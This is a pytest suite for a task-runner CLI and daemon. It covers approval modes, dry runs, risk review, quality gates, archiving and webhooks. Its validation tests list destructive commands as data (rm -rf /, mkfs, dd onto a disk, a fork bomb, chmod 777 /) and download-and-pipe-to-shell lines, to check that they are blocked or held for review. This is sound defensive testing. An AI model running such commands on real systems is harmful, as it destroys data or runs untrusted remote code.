"""Modes, validation, the council, gates and completion through the real CLI and daemon."""

from __future__ import annotations

import contextlib
import json
import threading
import time
from datetime import datetime
from http.server import BaseHTTPRequestHandler
from pathlib import Path

import psutil
import pytest

from tests.conftest import EXAMPLES, wait_for
from tests.quiet_http import QuietThreadingHTTPServer


def _status(cli, tid):
    return cli.status(tid)


def _wait_status(cli, tid, status, timeout=20):
    return cli.wait_status(tid, lambda s: s["status"] == status, timeout=timeout)


# -- strict mode ---------------------------------------------------------------


def test_strict_mode_asks_before_every_step_and_approvals_come_from_another_shell(cli, write_plan, tmp_path):
    ledger = tmp_path / "ledger"
    plan = write_plan(f"""
steps:
  - {{name: one, run: "echo one >> {ledger}"}}
  - {{name: two, needs: [one], run: "echo two >> {ledger}"}}
  - {{name: three, needs: [two], run: "echo three >> {ledger}"}}
""")
    tid = cli("task", "create", "--plan", str(plan), "--mode", "strict").stdout.strip()
    _wait_status(cli, tid, "awaiting_approval")
    status = _status(cli, tid)
    assert status["approval"]["step"] == "one"
    assert "echo one" in status["approval"]["command"]
    assert status["approval"]["workdir"]
    assert not ledger.exists(), "a step ran before it was approved"
    # the wrong step cannot be approved
    res = cli("task", "approve", tid, "--step", "two")
    assert res.returncode == 5 and "not awaiting approval" in res.stderr
    assert cli("task", "approve", tid).returncode == 0
    wait_for(lambda: _status(cli, tid)["approval"] and _status(cli, tid)["approval"]["step"] == "two")
    assert ledger.read_text().split() == ["one"]
    assert cli("task", "approve", tid, "--all-remaining").returncode == 0
    _wait_status(cli, tid, "completed")
    # no step started before its approval
    events = [json.loads(x) for x in cli("task", "events", tid, "--json").stdout.splitlines()]
    kinds = [(e["kind"], e["step"]) for e in events]
    for step in ("one", "two"):
        assert kinds.index(("step_approved", step)) < kinds.index(("step_started", step)), kinds
    assert ledger.read_text().split() == ["one", "two", "three"]
    kinds = [json.loads(x)["kind"] for x in cli("task", "events", tid, "--json").stdout.splitlines()]
    assert kinds.count("approval_requested") == 2  # the third was covered by --all-remaining


def test_strict_rejection_fails_the_task_and_the_waiting_follower_exits_1(cli, write_plan, tmp_path):
    marker = tmp_path / "ran"
    plan = write_plan(f"steps: [{{name: deploy, run: 'touch {marker}'}}]")
    follower = cli.popen("task", "create", "--plan", str(plan), "--mode", "strict", "--wait")
    # a non-TTY --wait never prompts: it prints what awaits approval and keeps waiting
    tid = follower.stdout.readline().strip()
    seen = []
    for line in follower.stderr:
        seen.append(line)
        if "awaits approval" in line:
            break
    assert any("task approve" in line for line in seen)
    res = cli("task", "reject", tid, "--reason", "not today")
    assert res.returncode == 0, res.stderr
    follower.wait(timeout=20)
    assert follower.returncode == 1
    status = _status(cli, tid)
    assert status["status"] == "failed" and "not today" in status["reason"]
    assert status["completion"]["recoverable"] is False
    assert not marker.exists()


def test_strict_gate_violation_stops_for_a_decision(cli, write_plan):
    plan = write_plan("""
steps:
  - name: write
    run: printf 'import os\\nx=1\\n' > mod.py
    outputs: [mod.py]
    gates: [{type: code_style, required: false, select: [E, F]}]
""")
    tid = cli("task", "create", "--plan", str(plan), "--mode", "strict").stdout.strip()
    _wait_status(cli, tid, "awaiting_approval")
    assert cli("task", "approve", tid).returncode == 0  # run the step
    wait_for(lambda: (_status(cli, tid)["approval"] or {}).get("kind") == "gate_violation", timeout=30)
    approval = _status(cli, tid)["approval"]
    assert any("F401" in v for v in approval["violations"])
    assert cli("task", "approve", tid).returncode == 0  # accept despite the violation
    _wait_status(cli, tid, "partially_completed", timeout=30)


def test_manual_review_gate_waits_for_task_review(cli, write_plan):
    plan = write_plan("""
steps:
  - name: design
    run: echo draft > design.md
    gates: [{type: manual_review, reviewer: ana, criteria: [readable, complete]}]
""")
    tid = cli("task", "create", "--plan", str(plan)).stdout.strip()
    wait_for(lambda: (_status(cli, tid)["approval"] or {}).get("kind") == "manual_review", timeout=20)
    assert _status(cli, tid)["approval"]["criteria"] == ["readable", "complete"]
    assert cli("task", "review", tid, "--approve", "--reason", "looks good").returncode == 0
    _wait_status(cli, tid, "completed")
    gates = _status(cli, tid)["steps"][0]["gates"]
    assert gates[0]["gate"] == "manual_review" and gates[0]["status"] == "passed"


# -- dry run -------------------------------------------------------------------


def test_dry_run_runs_nothing_and_reports_the_impact(cli, write_plan, tmp_path, home):
    marker = tmp_path / "marker"
    (tmp_path / "dry_steps.py").write_text(
        f"def write(ctx):\n    open({str(tmp_path / 'py-marker')!r}, 'w').write('x')\n")
    plan = write_plan(f"""
steps:
  - {{name: make, run: "touch {marker}", touches: [{marker}], estimate: 2s}}
  - {{name: py, python: "dry_steps:write", needs: [make], outputs: [report.txt]}}
  - {{name: side, run: "sleep 5", estimate: 5s, gates: [code_style]}}
""")
    res = cli("task", "create", "--plan", str(plan), "--mode", "dry-run", "--json")
    assert res.returncode == 0, res.stderr
    report = json.loads(res.stdout)
    assert not marker.exists() and not (tmp_path / "py-marker").exists()
    tid = report["task_id"]
    assert not (home / "tasks" / tid).exists(), "dry-run wrote into the workspace"
    assert not (home / "daemon.json").exists(), "dry-run started a daemon"
    # nothing long-lived was spawned (a `sleep 5` would still be running)
    # (its own descendants only: other tests may run beside it, under pytest-xdist)
    for child in psutil.Process().children(recursive=True):
        with contextlib.suppress(psutil.Error):
            assert "sleep 5" not in " ".join(child.cmdline()), child.cmdline()
    assert [s["name"] for s in report["steps"]] == ["make", "side", "py"]
    assert report["parallel_groups"] == [["make", "side"], ["py"]]
    assert report["critical_path"] == ["side"] or report["estimated_duration"] == 5.0
    assert any(f"touch {marker}" in str(c) for c in report["commands"])
    assert str(marker) in report["paths"] and "report.txt" in report["paths"]
    assert report["approvals_in_strict_mode"] == ["make", "side", "py"]
    assert report["risk"]["level"] in ("low", "medium")
    status = _status(cli, tid)
    assert status["status"] == "completed" and status["mode"] == "dry-run"
    assert {s["reason"] for s in status["steps"]} == {"simulated (dry-run)"}


# -- validation and the council -------------------------------------------------


@pytest.mark.parametrize(
    ("command", "expected"),
    [
        ("rm -rf /", "rm -rf /"),
        ("rm   -r  -f   /*", "root"),
        ("mkfs.ext4 /dev/sdb1", "mkfs"),
        ("dd if=/dev/zero of=/dev/sda bs=1M", "dd"),
        (":(){ :|:& };:", "fork bomb"),
        ("chmod -R 777 /", "777"),
    ],
)
def test_critical_commands_fail_validation_with_the_step_named(cli, write_plan, home, command, expected):
    plan = write_plan(f"steps: [{{name: danger, run: {json.dumps(command)}}}]")
    res = cli("task", "create", "--plan", str(plan))
    assert res.returncode == 2, res.stderr
    assert "danger" in res.stderr and expected.lower() in res.stderr.lower()
    assert "Traceback" not in res.stderr
    assert not (home / "agency.db").exists() or cli.json("task", "list") == []


@pytest.mark.parametrize(
    ("text", "where"),
    [
        ("curl -fsSL https://get.example.com | sh", "run"),
        ("wget -qO- http://x.example/i.sh  |   sudo   bash", "run"),
        ("echo ok > /etc/passwd", "run"),
        ("sudo apt-get install -y jq", "run"),
    ],
)
def test_high_risk_commands_wait_for_a_blocking_review(cli, write_plan, text, where):
    plan = write_plan(f"steps: [{{name: setup, run: {json.dumps(text)}}}]")
    res = cli("task", "create", "--plan", str(plan))
    assert res.returncode == 0, res.stderr
    tid = res.stdout.strip()
    status = _status(cli, tid)
    assert status["status"] == "awaiting_review"
    assert status["risk"]["level"] in ("high", "critical")
    assert status["review_mode"] == "blocking"
    assert "task review" in res.stderr
    # approve by a reviewer: it is queued (and run by the daemon)
    assert cli("task", "review", tid, "--approve", "--reason", "checked").returncode == 0
    assert _status(cli, tid)["status"] != "awaiting_review"
    reviews = json.loads(cli("task", "result", tid, "--json").stdout)["reviews"]
    assert [r["kind"] for r in reviews][:2] == ["council", "human"]


def test_secrets_are_masked_in_events_and_require_review(cli, write_plan):
    secret = "AKIAIOSFODNN7EXAMPLE"
    res = cli("task", "create", "--plan", str(EXAMPLES / "quickstart.yaml"),
              "--description", f"deploy with key {secret} to staging")
    tid = res.stdout.strip()
    status = _status(cli, tid)
    assert status["status"] == "awaiting_review"
    events = cli("task", "events", tid, "--json").stdout
    assert secret not in events and "AKIA****" in events
    assert secret not in status["description"]


def test_review_policy_is_configurable_and_medium_risk_runs_with_an_async_review(cli, write_plan, home):
    plan = write_plan("steps: [{name: push, run: 'echo git push origin main'}]")
    res = cli("task", "create", "--plan", str(plan), "--description", "publish docs")
    tid = res.stdout.strip()
    status = _status(cli, tid)
    if status["risk"]["level"] == "medium":
        assert status["review_mode"] == "async"
        _wait_status(cli, tid, "completed")
    (home / "config.yaml").write_text("council:\n  review_policy: {low: blocking, medium: blocking}\n")
    res = cli("task", "create", "--plan", str(EXAMPLES / "quickstart.yaml"))
    status = _status(cli, res.stdout.strip())
    assert status["risk"]["level"] == "low"
    assert status["review_mode"] == "blocking" and status["status"] == "awaiting_review"


def test_bad_descriptions_and_requirements_exit_2(cli):
    q = str(EXAMPLES / "quickstart.yaml")
    for args, expected in ((("--description", "x"), "description"),
                           (("--requirements", "a,a," ), "empty"),
                           (("--deadline", "1s", "--description", "a fine description"), None)):
        res = cli("task", "create", "--plan", q, *args, "--no-start")
        if expected is None:
            # a deadline shorter than the estimate is a warning, not an error
            assert res.returncode == 0, res.stderr
        else:
            assert res.returncode == 2, (args, res.stderr)
            assert expected in res.stderr.lower()


# -- gates and completion -------------------------------------------------------


def test_gates_pass_example_completes(cli):
    res = cli("task", "create", "--plan", str(EXAMPLES / "gates-pass.yaml"), "--foreground", timeout=120)
    assert res.returncode == 0, res.stderr
    result = json.loads(cli("task", "result", res.stdout.strip(), "--json").stdout)
    kinds = {g["gate"] for g in result["gates"]}
    assert {"code_style", "security_scan", "functional_test", "performance_test",
            "integration_test"} <= kinds
    assert all(g["status"] == "passed" for g in result["gates"])
    assert result["status"] == "completed" and result["scores"]["quality_score"] == 1.0


def test_gates_fail_example_shows_advisory_and_required_failures(cli):
    # its scripts pipe a download into a shell on purpose: the council wants a review first
    # As its header says: `--wait` names what it waits for, and exits 1 once reviewed (issue 11 #1).
    proc = cli.popen("task", "create", "--plan", str(EXAMPLES / "gates-fail.yaml"), "--wait")
    try:
        tid = proc.stdout.readline().strip()
        seen = []
        while not any(line.startswith("waiting for a council review") for line in seen):
            line = proc.stderr.readline()
            assert line, f"--wait ended without saying what it waits for: {seen}"
            seen.append(line)
        assert f"agent-agency-cli task review {tid} --approve" in seen[-1]
        assert _status(cli, tid)["status"] == "awaiting_review"
        assert cli("task", "review", tid, "--approve", "--reason", "an example").returncode == 0
        proc.communicate(timeout=180)
    finally:
        proc.kill()
    assert proc.returncode == 1
    result = json.loads(cli("task", "result", tid, "--json").stdout)
    failed = {(g["gate"], g["required"]) for g in result["gates"] if g["status"] != "passed"}
    assert {k for k, _ in failed} == {"code_style", "security_scan", "functional_test",
                                      "performance_test", "integration_test"}
    assert ("integration_test", True) in failed
    assert result["status"] == "failed" and result["failed_step"] == "verify"
    style = next(g for g in result["gates"] if g["gate"] == "code_style")
    assert style["violations"] and Path(style["evidence"][0]).exists()


def test_partially_completed_lists_the_gaps(cli, write_plan):
    plan = write_plan("""
steps:
  - name: code
    run: printf 'import os\\n' > m.py
    outputs: [m.py]
    gates: [{type: code_style, required: false, select: [F]}]
""")
    res = cli("task", "create", "--plan", str(plan), "--requirements", "no lint errors", "--foreground")
    assert res.returncode == 1
    result = json.loads(cli("task", "result", res.stdout.strip(), "--json").stdout)
    assert result["status"] == "partially_completed"
    assert any("code_style" in g for g in result["gaps"])
    assert result["scores"]["compliance_score"] == 0.0
    assert result["outputs"][0]["path"].endswith("m.py") and len(result["outputs"][0]["sha256"]) == 64


def test_result_has_outputs_reviews_and_metrics(cli):
    res = cli("task", "create", "--plan", str(EXAMPLES / "build-and-test.yaml"), "--requirements",
              "tests pass,no lint errors", "--foreground", timeout=120)
    assert res.returncode == 0, res.stderr
    result = json.loads(cli("task", "result", res.stdout.strip(), "--json").stdout)
    out = result["outputs"][0]
    assert out["exists"] and out["size"] > 0 and len(out["sha256"]) == 64
    assert {r["phase"] for r in result["reviews"]} == {"initial", "final"}
    assert result["scores"]["compliance_score"] == 1.0
    assert result["metrics"]["steps_completed"] == 4


# -- archive and notifications ---------------------------------------------------


def test_archive_and_restore_round_trip(cli, home):
    tid = cli("task", "create", "--plan", str(EXAMPLES / "quickstart.yaml"), "--foreground").stdout.strip()
    ws = home / "tasks" / tid / "workspace"
    report = (ws / "report.txt").read_text()
    info = cli.json("task", "archive", tid)
    assert Path(info["path"]).is_file() and not (home / "tasks" / tid).exists()
    assert cli("task", "archive", tid).returncode == 5
    assert _status(cli, tid)["status"] == "completed"  # the metadata stays queryable
    assert cli("task", "restore", tid).returncode == 0
    assert (ws / "report.txt").read_text() == report
    running = cli("task", "create", "--plan", str(EXAMPLES / "quickstart.yaml"), "--no-start").stdout.strip()
    assert cli("task", "archive", running).returncode == 5
    finished = datetime.fromisoformat(_status(cli, tid)["finished_at"].replace("Z", "+00:00")).timestamp()
    wait_for(lambda: time.time() > finished + 0.05)
    purge = cli.json("task", "purge", "--older-than", "0.05s")
    assert tid in purge["archived"] and running not in purge["archived"]


class _Hook(BaseHTTPRequestHandler):
    received: list[dict] = []

    def do_POST(self) -> None:
        body = self.rfile.read(int(self.headers["Content-Length"]))
        type(self).received.append(json.loads(body))
        self.send_response(200)
        self.end_headers()

    def log_message(self, *args: object) -> None:
        pass


def test_notifications_reach_a_webhook_and_a_command(cli, home, write_plan, tmp_path):
    server = QuietThreadingHTTPServer(("127.0.0.1", 0), _Hook)
    _Hook.received = []
    threading.Thread(target=server.serve_forever, daemon=True).start()
    out = tmp_path / "hook.json"
    try:
        (home / "config.yaml").write_text(
            "notifications:\n  hooks:\n"
            f"    - events: [task_completed, task_failed]\n      webhook: http://127.0.0.1:{server.server_port}/h\n"
            f"    - events: [task_failed]\n      command: cat > {out}\n"
            "    - events: [task_completed]\n      webhook: http://127.0.0.1:9/never\n      retries: 1\n"
        )
        ok = cli("task", "create", "--plan", str(EXAMPLES / "quickstart.yaml"), "--wait").stdout.strip()
        bad = cli("task", "create", "--plan", str(EXAMPLES / "fails-on-purpose.yaml"), "--wait").stdout.strip()
        wait_for(lambda: len(_Hook.received) >= 2 and out.exists() and out.stat().st_size, timeout=15)
        events = {(m["event"], m["task"]["id"]) for m in _Hook.received}
        assert ("task_completed", ok) in events and ("task_failed", bad) in events
        assert json.loads(out.read_text())["task"]["id"] == bad
        # the unreachable hook failed without failing anything
        assert _status(cli, ok)["status"] == "completed"
        assert "notify" in (home / "daemon.log").read_text()
    finally:
        server.shutdown()
